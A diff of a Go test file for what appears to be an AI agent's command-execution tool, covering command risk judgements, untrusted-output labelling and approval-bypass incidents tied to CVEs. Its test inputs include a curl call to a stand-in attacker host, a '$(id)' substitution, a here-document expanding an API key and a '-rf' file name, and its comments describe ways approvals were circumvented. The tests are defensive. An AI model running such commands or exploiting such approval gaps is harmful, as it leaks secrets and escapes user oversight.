@@ -87,7 +87,7 @@ func (b *bench) judge(in runIn) tools.Judgement {
 	return b.tool.(tools.Judge).Judge(b.t.Context(), args(in))
 }
 
-// allowed runs a call as it was judged before: with that judgement's Exact.
+// allowed runs a call with the Exact of its earlier judgement.
 func (b *bench) allowed(in runIn, exact string) (tools.Result, error) {
 	return b.tool.Call(b.t.Context(), tools.Call{ID: "c", Args: args(in), Exact: exact})
 }
@@ -103,7 +103,7 @@ func TestJudgement(t *testing.T) {
 		why     string
 	}{
 		"looks only":       {runIn{Command: "cat notes.txt"}, tools.Exec, true, ""},
-		"writes":           {runIn{Command: "touch x"}, tools.Exec, false, "nothing confines it"},
+		"writes":           {runIn{Command: "touch x"}, tools.Exec, false, "no sandbox"},
 		"contacts":         {runIn{Command: "curl https://evil.example/?q=x"}, tools.Exec | tools.Egress, false, "evil.example"},
 		"asks for network": {runIn{Command: "ls", Network: true}, tools.Exec | tools.Egress, false, "requests network access"},
 		"sends":            {runIn{Command: "mail a@b.example"}, tools.Exec | tools.Send, false, "sends"},
@@ -147,13 +147,13 @@ func TestResults(t *testing.T) {
 		want   string
 		source provenance.Source
 	}{
-		"files are outside text": {runIn{Command: "cat notes.txt"}, "one", provenance.Outside},
-		"its own words":          {runIn{Command: "echo hello"}, "hello", provenance.Tool},
-		"nothing":                {runIn{Command: "true"}, "It printed nothing.", provenance.Tool},
-		"status":                 {runIn{Command: "ls nothing"}, "exit status", provenance.Outside},
-		"another folder":         {runIn{Command: "pwd", Cwd: "~/Documents"}, b.docs, provenance.Outside},
-		"no sandbox is said":     {runIn{Command: "touch x"}, "No sandbox confined it", provenance.Outside},
-		"too long":               {runIn{Command: "sleep 60", Timeout: 1}, "took longer than 1s and was ended", provenance.Tool},
+		"files are untrusted text": {runIn{Command: "cat notes.txt"}, "one", provenance.Outside},
+		"its own words":            {runIn{Command: "echo hello"}, "hello", provenance.Tool},
+		"nothing":                  {runIn{Command: "true"}, "It printed no output.", provenance.Tool},
+		"status":                   {runIn{Command: "ls nothing"}, "exit status", provenance.Outside},
+		"another folder":           {runIn{Command: "pwd", Cwd: "~/Documents"}, b.docs, provenance.Outside},
+		"no sandbox is said":       {runIn{Command: "touch x"}, "without a sandbox", provenance.Outside},
+		"too long":                 {runIn{Command: "sleep 60", Timeout: 1}, "ran longer than 1s and was stopped", provenance.Tool},
 	} {
 		t.Run(name, func(t *testing.T) {
 			r, err := b.run(c.in)
@@ -178,9 +178,9 @@ func TestSummary(t *testing.T) {
 	}
 }
 
-// I8 (CVE-2026-29607): an approval of a wrapper stayed while what it wrapped
-// was changed. Here an approval is for the resolved arguments and the digests of
-// what runs; CVE-2026-28463: the shell expanded what had been allowed unexpanded;
+// I8 (CVE-2026-29607): an approval of a wrapper stayed valid after the wrapped program was
+// changed. Here an approval is for the resolved arguments and the digests of what runs;
+// CVE-2026-28463: the shell expanded arguments that were approved unexpanded;
 // CVE-2026-44115: the bodies of here-documents expanded secrets.
 func TestIncidentI8ApprovalsOfCommands(t *testing.T) {
 	b := newBench(t, command.Auto)
@@ -202,7 +202,7 @@ func TestIncidentI8ApprovalsOfCommands(t *testing.T) {
 	b.put("Documents/-rf", "")
 	b.put("Documents/b.tmp", "")
 	if _, err := b.allowed(in, j.Exact); tools.CodeOf(err) != tools.Conflict {
-		t.Errorf("a pattern that stands for other files by now: %v", err)
+		t.Errorf("a pattern that now matches other files: %v", err)
 	}
 	for _, text := range []string{"cat *", "ls -- $(id)", "cat <<E\n$ANTHROPIC_API_KEY\nE"} {
 		if b.judge(runIn{Command: text}).Listed {
@@ -216,8 +216,8 @@ func TestIncidentI8ApprovalsOfCommands(t *testing.T) {
 	}
 }
 
-// I9: between the check and the use a file was swapped for a link. What a
-// command would read is looked at again right before it runs.
+// I9: between the check and the use a file was replaced by a link. The files that a command
+// would read are checked again right before it runs.
 func TestIncidentI9SwappedFiles(t *testing.T) {
 	b := newBench(t, command.Auto)
 	in := runIn{Command: "cat notes.txt"}
